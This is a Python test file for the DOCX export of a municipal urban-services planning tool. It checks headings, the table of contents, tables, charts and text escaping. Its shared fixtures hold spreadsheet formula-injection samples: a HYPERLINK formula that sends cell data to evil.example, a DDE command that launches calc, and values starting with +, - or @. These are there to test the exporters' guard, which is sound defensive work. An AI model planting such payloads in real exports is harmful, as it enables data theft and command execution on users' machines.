"""The DOCX deliverable, read back with python-docx: the whole worksheet, every answer of the
plan, Word's heading styles, a contents field Word refreshes, lists as tables, the charts.

The helpers at the top (the demo documents, a document built by hand, the plan's answers as
lines) are shared with test_xlsx.py and test_csv.py.
"""

from __future__ import annotations

import datetime
import io
from collections.abc import Mapping
from io import StringIO
from typing import Any

import docx
import pytest
from django.core.management import call_command
from docx.oxml.ns import qn
from docx.table import Table

from jalon.plans.demo import demo_plan
from jalon.reports import charts, to_docx
from jalon.reports.document import Document, Meta, build_document
from jalon.reports.selectors import plan_document
from jalon.worksheets.loading import latest_definition
from jalon.worksheets.schema import ItemKind

from ..fidelity import missing_texts

WORKSHEET = "gerer-les-services-urbains"


# Shared helpers.


def demo_documents() -> dict[str, Document]:
    """The demo plan as a document, in French and in English."""
    call_command("load_demo", stdout=StringIO())
    plan = demo_plan()
    assert plan is not None
    return {language: plan_document(plan, language) for language in ("fr", "en")}


def missing_seed_items(text: str) -> list[str]:
    """The seed worksheet's items (steps, instructions, questions, options) not in `text`."""
    return missing_texts(text)


def hand_document(
    answers: Mapping[str, Any] | None = None,
    records: Mapping[str, Any] | None = None,
    language: str = "fr",
) -> Document:
    """A document of the bundled worksheet built from plain data, without a database."""
    definition = latest_definition(WORKSHEET)
    meta = Meta(
        municipality="Commune de Test",
        country="Sénégal",
        city="Test",
        service="Déchets solides",
        title="Plan de test",
        definition_id=definition.id,
        definition_version=definition.version,
        definition_hash=definition.hash,
        worksheet_title=definition.title.get(language),
        worksheet_source=definition.source.get(language),
        language=language,
        generated=datetime.date(2027, 1, 15),
    )
    return build_document(definition, answers or {}, records or {}, meta)


# Typed by a person, read by a spreadsheet: each would be a formula without the guard.
FORMULAS = {
    "excluded_groups_text": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "informal_operators_text": "+1+1",
    "funding_programmes_text": "-2+3",
    "informal_place": "@SUM(A1:A9)",
    "competences": "\t=1+1",
    "scale_up": "\r=1+1",
}
HOSTILE_RECORDS = {
    "indicators": [
        (
            "i1",
            {
                "name": "=cmd|' /C calc'!A0",
                "unit": "%",
                "baseline_value": "-5",
                "baseline_date": "2026-06-30",
                "target_value": "9.5",
                "target_date": "2027-12-31",
            },
        )
    ],
    "funding_programmes": [
        ("f1", {"name": "@Programme", "amount": {"amount": "25000000", "currency": "XOF"}})
    ],
}


def answer_lines(document: Document, *, typed_cells: bool = True) -> list[str]:
    """Every line of every answer, note, chosen option and record cell of `document`.
    `typed_cells=False` leaves out the cells spreadsheets keep as numbers or dates."""
    lines: list[str] = []
    for step in document.steps:
        for section in step.sections:
            for entry in section.entries:
                if entry.kind is ItemKind.TEXT:
                    lines += entry.text.splitlines()
                lines += entry.note.splitlines()
                lines += [choice.label for choice in entry.choices if choice.selected]
                for record in entry.records:
                    values = record.values or (None,) * len(record.cells)
                    for cell, value in zip(record.cells, values, strict=True):
                        if typed_cells or value is None:
                            lines += cell.splitlines()
    return [line.strip() for line in lines if line.strip()]


def worksheet_lines(document: Document) -> list[str]:
    """Every step title, section title and instruction, question and option of `document`."""
    lines: list[str] = []
    for step in document.steps:
        lines.append(step.title)
        for section in step.sections:
            lines += [section.title, *section.instruction.splitlines()]
            for entry in section.entries:
                lines += [entry.question, *entry.columns]
                lines += [choice.label for choice in (*entry.choices, *entry.levels)]
    return [line.strip() for line in lines if line.strip()]


def not_found(lines: list[str], text: str) -> list[str]:
    return [line for line in lines if line not in text]


# DOCX helpers.


def docx_text(data: bytes) -> str:
    """The text of the document's body, paragraphs and table cells, in order."""
    document = docx.Document(io.BytesIO(data))
    lines: list[str] = []
    for block in document.iter_inner_content():
        if isinstance(block, Table):
            lines += [cell.text for row in block.rows for cell in row.cells]
        else:
            lines.append(block.text)
    return "\n".join(lines)


def paragraphs_in(data: bytes, style: str) -> list[str]:
    document = docx.Document(io.BytesIO(data))
    return [p.text for p in document.paragraphs if p.style is not None and p.style.name == style]


# Tests.


@pytest.fixture
def demo(db) -> dict[str, Document]:
    return demo_documents()


def test_docx_holds_every_seed_item_and_every_answer_of_the_demo_in_french(demo):
    text = docx_text(to_docx.build(demo["fr"]))
    assert missing_seed_items(text) == []
    assert not_found(answer_lines(demo["fr"]), text) == []
    assert "Commune de Kandia" in text


def test_docx_in_english_holds_every_question_option_and_answer_in_english(demo):
    text = docx_text(to_docx.build(demo["en"]))
    assert not_found(worksheet_lines(demo["en"]), text) == []
    assert not_found(answer_lines(demo["en"]), text) == []
    assert "What is the level of IT equipment of the urban service operators?" in text
    assert "Quel est le niveau d’équipement" not in text
    assert "Step 1: " in text


def test_docx_steps_sections_questions_and_records_are_word_headings(demo):
    data = to_docx.build(demo["fr"])
    steps = paragraphs_in(data, "Heading 1")
    assert (
        steps[0] == "Étape 1\u00a0: Expliciter ses attentes du numérique pour chaque service urbain"
    )
    assert len(steps) == 6
    sections = [s for step in demo["fr"].steps for s in step.sections]
    assert paragraphs_in(data, "Heading 2") == [f"{s.id} {s.title}" for s in sections]
    questions = [e.question for s in sections for e in s.entries]
    assert paragraphs_in(data, "Heading 3") == questions
    # The pilot actions (a wide list) are each a heading: the navigation pane lists them.
    assert "1. Suivi GPS des tournées des camions de collecte" in paragraphs_in(data, "Heading 4")


def test_docx_has_a_contents_field_that_word_updates_on_opening(demo):
    document = docx.Document(io.BytesIO(to_docx.build(demo["fr"])))
    update = document.settings.element.find(qn("w:updateFields"))
    assert update is not None
    assert update.get(qn("w:val")) == "true"
    instructions = [i.text for i in document.element.body.iter(qn("w:instrText"))]
    assert any(i.strip().startswith("TOC ") for i in instructions)
    # Until it is refreshed, the field lists the steps and sections.
    entries = [
        p.text
        for p in document.paragraphs
        if p.style is not None and p.style.name in ("toc 1", "toc 2")
    ]
    assert "2.2 Maturité numérique du service" in entries
    assert document.core_properties.title == demo["fr"].meta.title
    assert document.core_properties.language == "fr-FR"


def test_docx_shows_every_option_ticked_or_not_and_every_maturity_level(demo):
    text = docx_text(to_docx.build(demo["fr"]))
    orientation = next(
        e for s in demo["fr"].steps[0].sections for e in s.entries if e.id == "orientation"
    )
    for choice in orientation.choices:
        assert f"{'☒' if choice.selected else '☐'}\t{choice.label}" in text
    assert text.count("☒\t") == sum(
        c.selected
        for step in demo["fr"].steps
        for s in step.sections
        for e in s.entries
        for c in e.choices
    )
    # Each maturity question: five levels and their rubrics, the chosen one ticked.
    assert text.count("4 — Avancé") == 7
    assert "Aucun équipement informatique" in text


def test_docx_prints_narrow_lists_as_one_table_and_wide_lists_as_a_table_per_record(demo):
    document = docx.Document(io.BytesIO(to_docx.build(demo["fr"])))
    tables = document.tables
    # Excluded groups (4 fields): one table, a header row and a row per group.
    groups = next(t for t in tables if t.rows[0].cells[0].text == "Groupe social ou quartier")
    assert len(groups.rows) == 1 + 3
    header = groups.rows[0]._tr.trPr
    assert header is not None and header.find(qn("w:tblHeader")) is not None  # on each page
    # Pilot actions (12 fields): a field/value table per action, its empty fields left out.
    actions = [t for t in tables if t.rows[0].cells[0].text == "Intitulé de l’action test"]
    assert len(actions) == 3
    assert all(len(t.columns) == 2 for t in actions)
    entry = next(e for s in demo["fr"].steps[3].sections for e in s.entries)
    first = entry.records[0]
    filled = [c for c in first.cells if c.strip()]
    assert len(filled) < len(entry.columns)  # a data action leaves communication fields out
    assert [row.cells[1].text for row in actions[0].rows] == filled


def test_docx_charts_are_images_with_a_caption_a_text_alternative_and_their_data(demo):
    data = to_docx.build(demo["fr"])
    document = docx.Document(io.BytesIO(data))
    drawn = [chart for chart in charts.all_charts(demo["fr"]) if chart.svg]
    assert drawn
    assert len(document.inline_shapes) == len(drawn)
    descriptions = [shape._inline.docPr.get("descr") for shape in document.inline_shapes]
    assert descriptions == [chart.alt for chart in drawn]
    captions = paragraphs_in(data, "Caption")
    assert [c.split("\u00a0: ", 1)[1] for c in captions] == [
        chart.title for chart in charts.all_charts(demo["fr"])
    ]
    # The data of the maturity chart is a table: its first row is the chart table's header.
    header = charts.all_charts(demo["fr"])[0].table[0]
    assert any(tuple(c.text for c in t.rows[0].cells) == header for t in document.tables)


def test_docx_of_an_empty_plan_is_a_blank_worksheet(plan):
    document = plan_document(plan, "fr")
    data = to_docx.build(document)
    text = docx_text(data)
    assert missing_seed_items(text) == []
    assert "(sans réponse)" in text
    assert "(aucun enregistrement)" in text
    assert "☒" not in text
    for chart in charts.all_charts(document):
        assert chart.svg is None
        assert chart.message in text
    assert len(docx.Document(io.BytesIO(data)).inline_shapes) == 0


def test_docx_keeps_markup_as_text_and_drops_characters_xml_cannot_hold():
    answer = 'Budget <w:t>&amp; "total"</w:t> ]]> \x00\x07\x1b fin'
    document = hand_document({"competences": answer, "scale_up": "=1+1"})
    text = docx_text(to_docx.build(document))
    assert 'Budget <w:t>&amp; "total"</w:t> ]]>  fin' in text
    assert "=1+1" in text  # Word computes no formulas: the answer is printed as typed


def test_docx_in_english_has_english_words_and_page_numbers():
    data = to_docx.build(hand_document(language="en"))
    document = docx.Document(io.BytesIO(data))
    footer = document.sections[0].footer.paragraphs[0]
    instructions = [i.text.strip() for i in footer._p.iter(qn("w:instrText"))]
    assert instructions == ["PAGE", "NUMPAGES"]
    assert footer.text.startswith("Page ")
    assert " of " in footer.text
    assert "(no answer)" in docx_text(data)
